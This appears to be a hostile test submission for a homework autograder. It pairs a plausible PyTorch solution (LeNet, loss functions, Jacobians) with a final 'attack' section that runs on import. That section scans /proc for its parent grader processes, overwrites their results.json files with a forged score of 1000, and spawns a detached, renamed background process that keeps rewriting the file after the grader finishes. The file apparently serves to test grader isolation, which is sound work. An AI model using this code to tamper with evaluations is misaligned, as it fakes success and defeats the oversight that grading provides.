"""Hostile hw4 submission: forges the grader's results.json (otherwise the correct solution).

At load (a default argument value runs when its `def` runs) it writes a
results file with score 1000 wherever it can name one: its working folder,
Gradescope's /autograder/results, and every results path on the command line
of the processes that run it (read from /proc/PID/cmdline while scanning
/proc/*/cmdline). It also double-forks a detached process (setsid, renamed
"hostile-forger") that writes the same file 5 s later and again every second
for 15 s, to land after the grader has written its own.

The scan looks at every process but aims only at its own ancestors (the
grader running it): the test suite runs on shared machines, and at the
`process` isolation level aiming at everything would hit other people's runs.
Expected: no effect; full marks in the grader's own results file.
"""
import torch
import torch.nn as nn
import torch.nn.functional as F


def finite_difference_filters():
    # rows go down: channel 0 = X[i+1, j] - X[i, j], channel 1 = X[i, j+1] - X[i, j]
    dy = torch.tensor([[0., 0., 0.], [0., -1., 0.], [0., 1., 0.]])
    dx = torch.tensor([[0., 0., 0.], [0., -1., 1.], [0., 0., 0.]])
    return torch.stack([dy, dx]).unsqueeze(1)


def avgpool_as_conv(C, k):
    eye = torch.eye(C)
    weight = eye[:, :, None, None] * torch.ones(k, k) / k**2
    return dict(weight=weight, stride=k, padding=0, groups=1)


def rgb_to_gray_weight():
    return torch.tensor([0.299, 0.587, 0.114]).reshape(1, 3, 1, 1)


def loss_function(z, y):
    p = torch.sigmoid(z)
    q = torch.sigmoid(-z)
    return 0.5 * (1 - y) * ((1 - q) ** 2 + p ** 2) + 0.5 * (1 + y) * (q ** 2 + (1 - p) ** 2)


def logistic_loss(z, y):
    return -F.logsigmoid(y * z)


class LR(nn.Module):
    def __init__(self, input_dim=784):
        super().__init__()
        self.linear = nn.Linear(input_dim, 1, bias=True)

    def forward(self, x):
        return self.linear(x.float().view(-1, 28 * 28))


def mlp_layer_jacobians(A, b, y_prev, activation):
    z = A @ y_prev + b
    if activation == "identity":
        d = torch.ones_like(z)
    elif activation == "sigmoid":
        d = torch.sigmoid(z) * (1 - torch.sigmoid(z))
    elif activation == "tanh":
        d = 1 - torch.tanh(z) ** 2
    elif activation == "relu":
        d = (z > 0).float()
    else:
        raise ValueError(activation)
    J_b = torch.diag(d)
    J_y = J_b @ A
    return J_b, J_y


TABLE = [
    [0, 1, 2], [1, 2, 3], [2, 3, 4], [3, 4, 5], [0, 4, 5], [0, 1, 5],
    [0, 1, 2, 3], [1, 2, 3, 4], [2, 3, 4, 5], [0, 3, 4, 5], [0, 1, 4, 5], [0, 1, 2, 5],
    [0, 1, 3, 4], [1, 2, 4, 5], [0, 2, 3, 5],
    [0, 1, 2, 3, 4, 5],
]


class C3_layer(nn.Module):
    def __init__(self):
        super().__init__()
        self.table = TABLE
        self.maps = nn.ModuleList([nn.Conv2d(len(t), 1, 5) for t in TABLE])

    def forward(self, x):
        outs = [conv(x[:, t, :, :]) for conv, t in zip(self.maps, self.table)]
        return torch.cat(outs, dim=1)


class C3_layer_full(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(6, 16, 5)

    def forward(self, x):
        return self.conv(x)


class LeNet(nn.Module):
    def __init__(self, full_c3=False):
        super().__init__()
        self.C1 = nn.Conv2d(1, 6, 5, padding=2)
        self.C3 = C3_layer_full() if full_c3 else C3_layer()
        self.C5 = nn.Conv2d(16, 120, 5)
        self.F6 = nn.Linear(120, 84)
        self.out = nn.Linear(84, 10)

    def forward(self, x):
        x = F.avg_pool2d(torch.relu(self.C1(x)), 2)
        x = F.avg_pool2d(torch.relu(self.C3(x)), 2)
        x = torch.relu(self.C5(x)).view(x.shape[0], -1)
        return self.out(torch.relu(self.F6(x)))


# --- the attack ---------------------------------------------------------------------------
import os
import time

_FORGED = '{"score": 1000.0, "execution_time": 0.1, "output": "forged by the submission", "tests": []}'


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 64:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int([line for line in f if line.startswith("PPid:")][0].split()[1])
        except (OSError, IndexError, ValueError):
            break
    return pids


def _targets():
    found = {os.path.abspath("results.json"), "/autograder/results/results.json"}
    aim = set(_ancestors())
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) not in aim:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        for i, arg in enumerate(argv):
            if arg.startswith("--results="):
                arg = arg.split("=", 1)[1]
            elif arg == "--results" and i + 1 < len(argv):
                arg = argv[i + 1]
            if arg.endswith(".json"):
                found.add(os.path.join(cwd, arg))
    return sorted(found)


def _forge():
    for path in _targets():
        try:
            if os.path.isdir(os.path.dirname(path)):
                with open(path, "w") as f:
                    f.write(_FORGED)
                print("forged", path)
        except OSError as exc:
            print("could not forge", path, exc)


def _detach():
    try:
        if os.fork() != 0:
            return "parent"
    except OSError:
        return "no fork"
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        with open("/proc/self/comm", "w") as f:
            f.write("hostile-forger")
    except OSError:
        pass
    time.sleep(5)
    for _ in range(15):
        _forge()
        time.sleep(1)
    os._exit(0)


def _attack(now=_forge(), later=_detach()):
    """Never called: its default values ran at load."""
